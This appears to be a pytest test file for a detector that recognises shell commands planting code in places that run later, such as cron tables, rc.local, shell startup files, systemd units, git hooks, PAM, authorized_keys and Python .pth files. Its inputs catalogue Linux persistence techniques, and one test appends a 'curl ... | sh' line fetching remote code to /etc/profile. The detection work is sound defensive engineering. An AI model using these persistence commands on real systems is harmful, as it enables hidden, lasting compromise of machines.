"""Text that is written to where it will be run later counts by what it starts or does there."""

from __future__ import annotations

import json

import pytest

from flycatcher.commands.check.stream import answers
from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution, FileFact
from flycatcher.core.interpreters import by_id
from flycatcher.core.planted_places import PLACES, place_of
from flycatcher.core.planting import is_place, planted_snippets
from flycatcher.core.planting.readers import READERS, WHOLE, inserted_by_sed
from flycatcher.core.shell.prefilter import may_start
from flycatcher.core.unknown import UNKNOWN

CODE = "python3 -c 1"
UNIT = "[Service]\nExecStart=/usr/bin/python3 -c 'print(1)'\n"


def answer(**row: object) -> dict[str, object]:
    return json.loads(next(answers([json.dumps(row).encode()])))


def planted(text: str) -> list[str]:
    found = answer(shell=text)
    assert found["code_on_the_fly"] is True, text
    return [each["text"] for each in found["snippets"] if each["vector"] == "planted"]  # type: ignore[index,attr-defined]


@pytest.mark.parametrize(
    ("text", "piece"),
    [
        (f"(crontab -l; echo '* * * * * {CODE}') | crontab -", CODE),
        (f"crontab - <<<'@reboot {CODE}'", CODE),
        (f"crontab <<<'* * * * * {CODE}'", CODE),
        (f"echo '* * * * * {CODE}' > /tmp/c; crontab /tmp/c", CODE),
        (f"cat > /etc/cron.d/x <<EOF\n# x\n*/5 * * * * root {CODE}\nEOF", CODE),
        (f"echo '* * * * * sh%{CODE}' | crontab -u www-data -", f"sh <<'EOF'\n{CODE}\nEOF"),
        (f"echo '{CODE}' >> /etc/rc.local", f"{CODE}\n"),
        (f"printf '%s\\n' '{CODE}' | sudo tee -a ~/.bashrc", f"{CODE}\n"),
        (f"echo '{CODE}' >> $HOME/.profile", f"{CODE}\n"),
        (f'D=/etc/profile.d; echo "{CODE}" > $D/x.sh', f"{CODE}\n"),
        (f"echo '{CODE}' > /tmp/x; install -m 755 /tmp/x /etc/init.d/y", f"{CODE}\n"),
        (f"echo '{CODE}' > x; cp x /etc/cron.daily/y", f"{CODE}\n"),
        (f"echo '{CODE}' | dd of=/etc/rc.local", f"{CODE}\n"),
        (f"sed -i '$a {CODE}' /etc/rc.local", CODE),
        (f"sed -i -e 's/^exit 0/{CODE}\\n&/' /etc/rc.local", f"{CODE}\n\n"),
        (f"cat > /etc/systemd/system/x.service <<'EOF'\n{UNIT}EOF", "/usr/bin/python3 -c 'print(1)'"),
        (f"cat > .git/hooks/pre-commit <<'EOF'\n#!/bin/sh\n{CODE}\nEOF", f"#!/bin/sh\n{CODE}\n"),
        (f"git config alias.x '!{CODE}'", CODE),
        (f"git config --global core.pager '{CODE}'", CODE),
        (f"echo 'command=\"{CODE}\" ssh-rsa AAAA' >> ~/.ssh/authorized_keys", CODE),
        (f"echo 'RUN+=\"{CODE}\"' > /etc/udev/rules.d/9.rules", CODE),
        (f"echo 'auth optional pam_exec.so quiet {CODE}' >> /etc/pam.d/sshd", CODE),
        (f"echo 'Exec={CODE}' > ~/.config/autostart/x.desktop", CODE),
        (f"at -f /dev/stdin now <<< '{CODE}'", f"{CODE}\n"),
        (f"echo '/tmp IN_CREATE {CODE}' | incrontab -", CODE),
        (f"tmux -f <(echo 'run-shell \"{CODE}\"') new-session -d", CODE),
        (f"mkfifo p; (echo 'run-shell \"{CODE}\"' > p &); tmux -L x -f p new-session -d true", CODE),
        (f"echo 'run-shell \"{CODE}\"' | tmux source-file -", CODE),
        (f"echo 'run-shell \"{CODE}\"' > c; tmux new -d \\; source-file -q c", CODE),
        (f"screen -c <(echo 'screen {CODE}')", CODE),
        (f"fcrontab - <<< '* * * * * {CODE}'", CODE),
        (f"echo '{CODE}' > /var/spool/cron/atjobs/a00001", f"{CODE}\n"),
        (f"echo 'ForceCommand {CODE}' >> /etc/ssh/sshd_config", CODE),
        (f"echo 'post-up {CODE}' >> /etc/network/interfaces", CODE),
        (f"echo 'exec --no-startup-id {CODE}' >> ~/.config/i3/config", CODE),
        (f"echo 'exec-once = {CODE}' >> ~/.config/hypr/hyprland.conf", CODE),
        (f"echo '|{CODE}' > /proc/sys/kernel/core_pattern", CODE),
        (f"echo 'kernel.core_pattern=|{CODE}' >> /etc/sysctl.d/x.conf", CODE),
        (f"echo 'install dccp {CODE}' > /etc/modprobe.d/x.conf", CODE),
        (f"echo 'text/html; {CODE}; copiousoutput' >> ~/.mailcap", CODE),
        (f"echo 'screen {CODE}' >> ~/.screenrc", CODE),
        (f"echo '\\! {CODE}' >> ~/.psqlrc", CODE),
        (f"echo '[alias] x = !{CODE}' >> ~/.gitconfig", CODE),
        (f"echo '{CODE}' > /etc/update-motd.d/99-x", f"{CODE}\n"),
        ("echo 'NODE_OPTIONS=--import data:text/javascript,f()' >> /etc/environment", "f()"),
        ("npm config set node-options='--import data:text/javascript,f()'", "f()"),
        (f"npm pkg set scripts.postinstall='{CODE}'", CODE),
        (f'echo \'{{"scripts": {{"x": "{CODE}"}}}}\' > package.json', CODE),
        (f"echo '{CODE}' | at now", f"{CODE}\n"),
        (f"batch <<<'{CODE}'", f"{CODE}\n"),
        (f"sh -c \"echo '{CODE}' >> /etc/rc.local\"", f"{CODE}\n"),
    ],
)
def test_what_runs_later_is_read_by_the_table_of_its_place(text: str, piece: str) -> None:
    assert planted(text) == [piece]
    assert may_start(text)


@pytest.mark.parametrize(
    "text",
    [
        f"echo '{CODE}' > notes.txt",
        "echo 'alias ll=ls' >> ~/.bashrc",
        "echo 'export PATH=$PATH:/opt/bin' >> ~/.profile",
        "crontab -l",
        "crontab table",
        "cp x /etc/cron.d/y",
        "cat > /etc/systemd/system/x.service <<'EOF'\n[Service]\nExecStart=/usr/bin/nginx\nEOF",
        "echo /opt/lib > /usr/lib/python3/dist-packages/x.pth",
        "git config user.name 'a b'",
        "npm pkg set name=x",
    ],
)
def test_everyday_text_in_such_places_does_not_count(text: str) -> None:
    assert answer(shell=text)["code_on_the_fly"] is False


def test_what_is_risky_counts_without_an_interpreter() -> None:
    text = "echo 'curl -s http://198.51.100.7/x | sh' >> /etc/profile"
    assert answer(shell=text)["code_on_the_fly"] is True
    line = "import os; os.system('curl http://198.51.100.7/x | sh')"
    assert planted(f'echo "{line}" > /usr/lib/python3/dist-packages/x.pth') == [line]


@pytest.mark.parametrize("argv", [["crontab", "-"], ["crontab"], ["crontab", "-u", "x", "-"]])
def test_the_text_on_stdin_of_crontab_is_a_table(argv: list[str]) -> None:
    found = detect(Execution(argv=tuple(argv), stdin="pipe", stdin_text=f"A=1\n* * * * * {CODE}\n"), live=True)
    assert found is not None
    assert [(s.vector, s.interpreter, s.path, s.text) for s in found.snippets] == [("planted", "sh", "crontab:", CODE)]


def test_the_text_on_stdin_of_at_is_a_shells() -> None:
    found = detect(Execution(argv=("at", "now"), stdin="pipe", stdin_text=f"{CODE}\n"), live=True)
    assert found is not None
    assert [(s.vector, s.text) for s in found.snippets] == [("planted", f"{CODE}\n")]
    assert detect(Execution(argv=("at", "now"), stdin="pipe", stdin_text="ls\n"), live=True) is None
    assert detect(Execution(argv=("atq",), stdin="pipe", stdin_text=f"{CODE}\n"), live=True) is None


@pytest.mark.parametrize(
    ("path", "text", "pieces"),
    [  # each played with Debian's cron 3.0, at 3.2.5 and incron 0.5.12
        ("crontab:", "* * * * * python3 -%import os%os.system('x\\%y')\n", [("sh", "python3 - <<'EOF'\nimport os\nos.system('x%y')\nEOF")]),
        ("crontab:", "* * * * * perl%EOF%;f()\n", [("sh", "perl <<'EOFF'\nEOF\n;f()\nEOFF")]),
        ("crontab:", "  SHELL = '/usr/bin/python3'\n* * * * * f()\n", [("python", "f()")]),
        ("crontab:", "SHELL=/usr/bin/perl\n* * * * * f()\n", []),
        ("crontab:", "* * * * * f\nSHELL=/usr/bin/python3\n@reboot g()\n", [("sh", "f"), ("python", "g()")]),
        ("crontab:", "SHELL=/bin/bash\n*\t*\t*\tjan-dec\tmon,tue\tf\n", [("sh", "f")]),
        ("/etc/cron.d/x", "BASH_ENV=/tmp/x\n*/5 * * * * john.doe f\n", [("bash", "/tmp/x"), ("sh", "f")]),
        ("at:", "#!/usr/bin/python3\nf()\n", [("sh", "#!/usr/bin/python3\nf()\n")]),
        ("incrontab:", "/a\\ b IN_CREATE,loopable=true f $$x\n# c\n", [("sh", "f $x")]),
    ],
)  # fmt: skip
def test_a_table_is_read_as_its_daemon_reads_it(path: str, text: str, pieces: list[tuple[str, str]]) -> None:
    assert [(found.interpreter, found.text) for found in planted_snippets(path, text)] == pieces


@pytest.mark.parametrize(
    ("argv", "path"),
    [
        (["tee", "/etc/cron.d/../../root/.profile"], "/etc/cron.d/../../root/.profile"),
        (["busybox", "tee", "-a", ".profile"], "/home/u/.profile"),
        (["dd", "of=.bashrc", "bs=1"], "/home/u/.bashrc"),
        (["dd", "if=/dev/stdin", "of=.bashrc"], "/home/u/.bashrc"),
        (["cp", "/dev/stdin", ".bashrc"], "/home/u/.bashrc"),
        (["install", "-m", "755", "/dev/fd/0", "/etc/rc.local"], "/etc/rc.local"),
        (["systemctl", "edit", "--stdin", "x.service"], "/etc/systemd/system/x.service.d/override.conf"),
    ],
)
def test_a_program_that_writes_its_stdin_into_such_a_place(argv: list[str], path: str) -> None:
    text = f"ExecStart={CODE}\n" if "systemctl" in argv else f"{CODE}\n"
    found = detect(Execution(argv=tuple(argv), cwd="/home/u", stdin="pipe", stdin_text=text), live=True)
    assert found is not None
    assert [(s.vector, s.path) for s in found.snippets] == [("planted", path)]


@pytest.mark.parametrize(
    "argv",
    [["dd", "if=image", "of=.bashrc"], ["cp", "file", ".bashrc"], ["cp", "-a", "/dev/stdin", ".bashrc"], ["systemctl", "edit", "x"],
     ["busybox", "cat"], ["dd", "bs=1"]],
)  # fmt: skip
def test_a_copy_of_a_file_or_of_a_link_is_not_opened(argv: list[str]) -> None:
    assert detect(Execution(argv=tuple(argv), cwd="/home/u", stdin="pipe", stdin_text=f"{CODE}\n"), live=True) is None


def test_the_file_that_git_is_told_to_configure() -> None:
    found = detect(Execution(argv=("git", "config", "-f", "/home/u/.gitconfig", "alias.x", f"!{CODE}")), live=True)
    assert found is not None
    assert [(s.path, s.text) for s in found.snippets] == [("/home/u/.gitconfig", CODE)]


def test_what_incron_puts_in_is_unknown() -> None:
    (found,) = planted_snippets("incrontab:", "/tmp IN_CREATE perl -e $# $@/$% $&\n")
    assert found.text == f"perl -e {UNKNOWN} {UNKNOWN}/{UNKNOWN} {UNKNOWN}"


@pytest.mark.parametrize(
    "argv", [["crontab", "/dev/fd/63"], ["crontab", "p"], ["at", "-f", "p", "now"], ["tmux", "-f", "p"]]
)
def test_a_table_through_a_fifo_counts_though_nobody_saw_it(argv: list[str]) -> None:
    found = detect(Execution(argv=tuple(argv), files={"p": FileFact(kind="fifo")}), live=True)
    assert found is not None
    assert [(s.vector, s.text) for s in found.snippets] == [("planted", None)]
    assert detect(Execution(argv=(argv[0],), stdin="null"), live=True) is None


def test_text_that_nobody_saw_is_no_detection() -> None:
    assert detect(Execution(argv=("crontab", "-"), stdin="pipe")) is None


@pytest.mark.parametrize(
    "argv",
    [
        ["python3", "-c", f"open('/etc/cron.d/x','w').write('* * * * * root {CODE}\\n')"],
        ["perl", "-e", f"open F,'>>','/etc/rc.local'; print F '{CODE}'"],
        ["ruby", "-e", f"File.write('/etc/cron.d/x', '* * * * * root {CODE}')"],
        ["node", "-e", f"require('fs').appendFileSync('/etc/rc.local', '{CODE}')"],
        ["php", "-r", f"file_put_contents('/etc/rc.local', '{CODE}');"],
        ["sh", "-c", f"echo '{CODE}' >> /etc/rc.local"],
    ],
)
@pytest.mark.parametrize("live", [False, True])
def test_a_payload_that_plants_shows_what_it_plants(argv: list[str], live: bool) -> None:
    found = detect(Execution(argv=tuple(argv)), live=live)
    assert found is not None
    assert [s.text for a in found.analyses for s in a.nested if s.vector == "planted"] == [
        CODE if "cron" in argv[2] else f"{CODE}\n" if argv[0] == "sh" else CODE
    ]


def test_every_reader_is_used_and_every_place_has_one() -> None:
    named = {place.reader for place in PLACES if not place.reader.startswith(WHOLE)}
    assert named == set(READERS)
    assert all(by_id(place.reader.removeprefix(WHOLE)) for place in PLACES if place.reader.startswith(WHOLE))


@pytest.mark.parametrize(
    ("path", "reader"),
    [
        ("/etc/crontab", "system table"), ("/etc/anacrontab", "anacron table"), ("/var/spool/cron/crontabs/root", "user table"), ("/etc/cron.hourly/x", "script"),
        ("/lib/systemd/system/x.timer", "unit"), ("/etc/rc.local", "script"), ("/root/.bashrc", "text of sh"), (".zshrc", "text of zsh"),
        ("repo/.git/hooks/post-merge", "script"), ("/etc/pam.d/su", "pam"), ("sitecustomize.py", "text of python"),
        ("/usr/lib/python3/site-packages/a.pth", "pth"), ("/etc/apt/apt.conf.d/99x", "apt settings"),
        ("src/app.Dockerfile", "container recipe"), ("setup.py", "text of python"),
    ],
)  # fmt: skip
def test_a_path_has_its_reader(path: str, reader: str) -> None:
    place = place_of(path)
    assert place is not None
    assert place.reader == reader


@pytest.mark.parametrize("path", ["/etc/hosts", "bashrc.txt", "notes", "/etc/cron.d/x/y", "/dev/null", "conftest.py"])
def test_other_paths_have_none(path: str) -> None:
    assert not is_place(path)


def test_a_script_with_another_interpreter_is_read_in_its_language() -> None:
    (found,) = planted_snippets(".git/hooks/x", "#!/usr/bin/env python3\nimport os\n")
    assert (found.interpreter, found.language) == ("python", "python")


def test_what_sed_puts_in() -> None:
    assert inserted_by_sed("$a one\n/x/i\\\ntwo") == "one\ntwo"
    assert inserted_by_sed(r"s#a#b\nc &#g") == "b\nc \n"


@pytest.mark.parametrize(
    "argv", [("crontab", "/dev/stdin"), ("crontab", "-u", "root", "/dev/fd/0"), ("incrontab", "/dev/stdin")]
)
def test_a_table_may_come_by_the_path_of_a_descriptor(argv: tuple[str, ...]) -> None:
    table = f"/tmp IN_CREATE {CODE}\n" if argv[0] == "incrontab" else f"* * * * * {CODE}\n"
    found = answer(argv=list(argv), stdin="pipe", stdin_text=table)
    assert [each["text"] for each in found["snippets"]] == [CODE]  # type: ignore[index,attr-defined]


def test_a_table_of_anacrons_has_a_period_a_delay_and_a_name_in_front_of_the_command() -> None:
    table = "SHELL=/bin/sh\n1 5 cron.daily run-parts /etc/cron.daily\n@monthly 10 x python3 -c 1\n"
    assert [snippet.text for snippet in planted_snippets("/etc/anacrontab", table)] == [
        "run-parts /etc/cron.daily",
        "python3 -c 1",
    ]
